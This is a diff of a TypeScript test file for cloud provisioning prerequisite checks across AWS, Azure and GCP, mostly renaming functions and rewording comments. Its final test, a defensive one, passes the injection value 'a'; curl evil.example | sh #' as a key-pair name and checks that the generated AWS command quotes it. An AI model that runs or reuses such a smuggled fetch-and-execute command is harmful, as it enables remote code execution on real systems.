@@ -1,20 +1,20 @@
-/** Every prerequisite of every type of provision: missing in turn, unreadable in turn, and all of them there. */
+/** Tests every prerequisite of every resource type: each missing in turn, each unreadable in turn, and all of them met. */
 import { provisionPrerequisites, type Prerequisite } from '@cmp/contract/provision-prerequisites'
 import { provisionTypes } from '@cmp/contract/provision-types'
 import { requestInContainer } from '@cmp/contract/testing/provision-requests'
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { awsCloud } from '../aws/aws.ts'
-import { azureCloud } from '../azure/azure.ts'
-import { googleCloud } from '../gcp/google.ts'
+import { createAwsCloud } from '../aws/aws.ts'
+import { createAzureCloud } from '../azure/azure.ts'
+import { createGoogleCloud } from '../gcp/google.ts'
 import type { PrerequisitesPort } from '../ports/prerequisites.ts'
 import { awsAccount } from './aws-answers.ts'
-import { awsFields, awsRefusal, startAwsServer } from './aws-server.ts'
+import { awsFields, buildAwsRefusal, startAwsServer } from './aws-server.ts'
 import { subscription } from './azure-answers.ts'
 import { azureFields, startAzureServer } from './azure-server.ts'
 import type { Answer, CloudServer } from './cloud-server.ts'
 import { googleProject } from './google-answers.ts'
-import { googleFields, googleRefusal, startGoogleServer } from './google-server.ts'
-import { caseOf, prerequisiteCases } from './prerequisite-cases.ts'
+import { googleFields, buildGoogleRefusal, startGoogleServer } from './google-server.ts'
+import { getPrerequisiteCase, prerequisiteCases } from './prerequisite-cases.ts'
 
 type Stage = {
   server: CloudServer
@@ -29,7 +29,7 @@ beforeAll(async () => {
   const [azure, google, aws] = await Promise.all([startAzureServer(), startGoogleServer(), startAwsServer()])
   stages['Azure'] = {
     server: azure,
-    port: azureCloud(azureFields, azure.tools).prerequisites,
+    port: createAzureCloud(azureFields, azure.tools).prerequisites,
     containerId: subscription,
     refused: () => ({
       status: 403,
@@ -38,18 +38,18 @@ beforeAll(async () => {
   }
   stages['GCP'] = {
     server: google,
-    port: googleCloud(googleFields, google.tools).prerequisites,
+    port: createGoogleCloud(googleFields, google.tools).prerequisites,
     containerId: googleProject,
-    refused: () => googleRefusal(403, 'PERMISSION_DENIED', 'The caller does not have permission'),
+    refused: () => buildGoogleRefusal(403, 'PERMISSION_DENIED', 'The caller does not have permission'),
   }
   stages['AWS'] = {
     server: aws,
-    port: awsCloud(awsFields, aws.tools).prerequisites,
+    port: createAwsCloud(awsFields, aws.tools).prerequisites,
     containerId: awsAccount,
     refused: (isJson) =>
       isJson
         ? { status: 400, body: { __type: 'AccessDeniedException', message: 'You are not authorized.' } }
-        : awsRefusal(403, 'UnauthorizedOperation', 'You are not authorized to perform this operation.'),
+        : buildAwsRefusal(403, 'UnauthorizedOperation', 'You are not authorized to perform this operation.'),
   }
 })
 afterAll(async () => {
@@ -62,7 +62,7 @@ const stageOf = (cloud: string): Stage => {
   return stage
 }
 
-/** Fields that are filled in so that every kind of prerequisite is met by some request. */
+/** Field values with which every kind of prerequisite is used by some request. */
 const more: Readonly<Record<string, object>> = {
   'gcp-virtual-machine': {
     Network: 'shop-net',
@@ -78,34 +78,34 @@ const more: Readonly<Record<string, object>> = {
   'azure-virtual-machine': { NetworkInterfaceId: undefined },
 }
 
-const requestsOf = (name: string, containerId: string): object[] => {
+const buildRequests = (name: string, containerId: string): object[] => {
   const least = requestInContainer(name, 'least', containerId)
   return [least, requestInContainer(name, 'all', containerId), { ...least, ...more[name] }]
 }
 
 const needsOf = (name: string, containerId: string): Prerequisite[] => {
-  const found = requestsOf(name, containerId).flatMap((request) => [
+  const found = buildRequests(name, containerId).flatMap((request) => [
     ...(provisionPrerequisites[name]?.of(Object.fromEntries(Object.entries(request))) ?? []),
   ])
   return [...new Map(found.map((need) => [JSON.stringify(need), need])).values()]
 }
 
-/** Has the cloud answer for the needs, one of them as it is broken. */
-const staged = (
+/** Sets the provider's responses for the needs, with one of them broken. */
+const stageAnswers = (
   { server, refused }: Stage,
   needs: readonly Prerequisite[],
   broken?: { need: Prerequisite; as: 'missing' | 'refused' },
 ): void => {
-  const cases = needs.map((need) => caseOf(need, need.is))
-  const worst = broken && caseOf(broken.need, broken.need.is)
-  server.answerWith((asked) => {
-    if (worst?.isAsked(asked))
-      return broken?.as === 'missing' ? worst.missing(asked) : refused('x-amz-target' in asked.headers)
-    return cases.find(({ isAsked }) => isAsked(asked))?.present(asked)
+  const cases = needs.map((need) => getPrerequisiteCase(need, need.is))
+  const worst = broken && getPrerequisiteCase(broken.need, broken.need.is)
+  server.answerWith((received) => {
+    if (worst?.matchesRequest(received))
+      return broken?.as === 'missing' ? worst.missing(received) : refused('x-amz-target' in received.headers)
+    return cases.find(({ matchesRequest }) => matchesRequest(received))?.present(received)
   })
 }
 
-test('every type says what it needs, and every kind of prerequisite is met by one', () => {
+test('every type declares its prerequisites, and every type of prerequisite is used', () => {
   expect(Object.keys(provisionPrerequisites).toSorted()).toEqual(
     provisionTypes.map(({ name }) => name).toSorted(),
   )
@@ -117,28 +117,28 @@ test('every type says what it needs, and every kind of prerequisite is met by on
       by.filter((field) => !(field in fields) || secrets.includes(field)),
       name,
     ).toEqual([])
-    // What is not named is not read: a form sends those fields alone.
-    for (const request of requestsOf(name, 'x')) {
+    // Fields that are not named are not read: a form sends only those fields.
+    for (const request of buildRequests(name, 'x')) {
       const own = Object.fromEntries(Object.entries(request).filter(([field]) => by.includes(field)))
-      const of = (values: object) =>
+      const listNeeds = (values: object) =>
         provisionPrerequisites[name]?.of(Object.fromEntries(Object.entries(values)))
-      expect(of(own), name).toEqual(of(request))
+      expect(listNeeds(own), name).toEqual(listNeeds(request))
     }
     expect(() => provisionPrerequisites[name]?.of({}), name).not.toThrow()
   }
 })
 
 test.each(provisionTypes.map(({ name, cloud }) => [name, cloud] as const))(
-  '%s: what is missing is named with its command, what cannot be read is unknown, what is there is not mentioned',
+  '%s: names missing prerequisites with their command, marks unreadable ones as unknown and omits fulfilled ones',
   async (name, cloud) => {
     const stage = stageOf(cloud)
     const { port, containerId } = stage
     const needs = needsOf(name, containerId)
-    staged(stage, needs)
+    stageAnswers(stage, needs)
     expect(await port.check(needs, containerId)).toEqual([])
     for (const need of needs) {
-      const { text, command } = caseOf(need, need.is)
-      staged(stage, needs, { need, as: 'missing' })
+      const { text, command } = getPrerequisiteCase(need, need.is)
+      stageAnswers(stage, needs, { need, as: 'missing' })
       const [missing, ...others] = await port.check([need], containerId)
       expect(others, need.is).toEqual([])
       expect(missing, JSON.stringify(need)).toEqual({
@@ -146,7 +146,7 @@ test.each(provisionTypes.map(({ name, cloud }) => [name, cloud] as const))(
         text: expect.stringMatching(text),
         command: expect.stringMatching(command),
       })
-      staged(stage, needs, { need, as: 'refused' })
+      stageAnswers(stage, needs, { need, as: 'refused' })
       const [unknown, ...more] = await port.check([need], containerId)
       expect(more, need.is).toEqual([])
       expect(unknown, JSON.stringify(need)).toEqual({
@@ -158,10 +158,10 @@ test.each(provisionTypes.map(({ name, cloud }) => [name, cloud] as const))(
   },
 )
 
-test('a name that somebody typed stays one word of a command', async () => {
+test('quotes a user’s name as a single word of a command', async () => {
   const stage = stageOf('AWS')
   const name = "a'; curl evil.example | sh #"
-  staged(stage, [], { need: { is: 'aws-key-pair', region: 'us-east-1', name }, as: 'missing' })
+  stageAnswers(stage, [], { need: { is: 'aws-key-pair', region: 'us-east-1', name }, as: 'missing' })
   const [missing] = await stage.port.check([{ is: 'aws-key-pair', region: 'us-east-1', name }], awsAccount)
   expect(missing).toMatchObject({
     command: String.raw`aws ec2 import-key-pair --region us-east-1 --key-name 'a'\''; curl evil.example | sh #' --public-key-material fileb://PUBLIC_KEY.pub`,
